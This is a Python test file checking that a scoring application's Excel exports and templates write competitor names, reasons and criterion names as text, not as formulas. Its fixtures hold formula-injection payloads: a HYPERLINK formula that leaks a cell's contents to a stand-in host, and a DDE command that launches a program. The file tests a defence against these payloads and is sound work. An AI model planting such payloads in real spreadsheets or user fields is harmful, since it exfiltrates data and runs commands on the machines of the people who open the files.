"""Workbooks Podium writes hold people's text as text: a name or reason starting with "=" is no formula
("formula injection"), and a control character in a name does not break the download."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
from litestar.testing import AsyncTestClient
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from scoring.models import Criterion, Measurement
from tests.helpers import add_scheme, build_world, login, mark_all

STAGE = "/events/SL2023/skills/23/stages/SF1"
MARKING = "/marking/SL2023/23/SF1"
LINK_FIRST_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Anna")'
HYPERLINK = LINK_FIRST_NAME + " Ozola"
COMMAND = "=cmd|' /C calc'!A0"
SUM = "=SUM(1,1)"


async def hostile_world(session: AsyncSession) -> None:
    """The small competition, its semi-final marked, with formulas where people's text goes and a bell character
    in a name."""
    world = await build_world(session)
    scheme = await add_scheme(session, world.skill, world.semi_final)
    for competitor in world.competitors:
        await mark_all(session, scheme, competitor, world.experts[:3], score=2)
    anna, janis, *_ = world.competitors
    anna.first_name, anna.last_name = LINK_FIRST_NAME, "Ozola"
    janis.first_name, janis.last_name = "Jānis\x07", "Bērziņš"
    world.skill.name = SUM
    measurement = (await session.scalars(select(Measurement).limit(1))).one()
    measurement.reason = COMMAND
    criterion = (await session.scalars(select(Criterion).where(Criterion.scheme_id == scheme.id).limit(1))).one()
    criterion.name = SUM
    await session.commit()


def cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_stays_text(content: bytes, *texts: str) -> None:
    every = cells(content)
    for text in texts:
        holding = [cell for cell in every if cell.value == text]
        assert holding, f"{text!r} is not in the workbook"
        assert {cell.data_type for cell in holding} == {"s"}, f"{text!r} is written as a formula"


async def test_results_exports_write_names_reasons_and_criteria_as_text(
    client: AsyncTestClient[Any], session: AsyncSession
) -> None:
    await hostile_world(session)
    await login(client, "organiser@example.lv")
    for url in (f"{STAGE}/results/export", "/events/SL2023/results/export"):
        response = await client.get(url)
        assert response.status_code == 200, url
        assert_text_stays_text(response.content, HYPERLINK, COMMAND, SUM)
        assert not [cell.coordinate for cell in cells(response.content) if cell.data_type == "f"], url
        assert "Jānis Bērziņš" in {cell.value for cell in cells(response.content)}


async def test_marks_templates_write_names_as_text(client: AsyncTestClient[Any], session: AsyncSession) -> None:
    await hostile_world(session)
    await login(client, "inese@example.lv")
    for url in (f"{MARKING}/marks-template.xlsx", f"{STAGE}/scheme/marks-template"):
        response = await client.get(url)
        assert response.status_code == 200, url
        assert_text_stays_text(response.content, HYPERLINK)
        assert not [cell.coordinate for cell in cells(response.content) if cell.data_type == "f"], url
        assert "Jānis Bērziņš" in {cell.value for cell in cells(response.content)}


async def test_the_scheme_download_writes_a_criterion_name_as_text(
    client: AsyncTestClient[Any], session: AsyncSession
) -> None:
    await hostile_world(session)
    await login(client, "inese@example.lv")
    response = await client.get(f"{STAGE}/scheme/download")
    assert response.status_code == 200
    assert_text_stays_text(response.content, SUM)
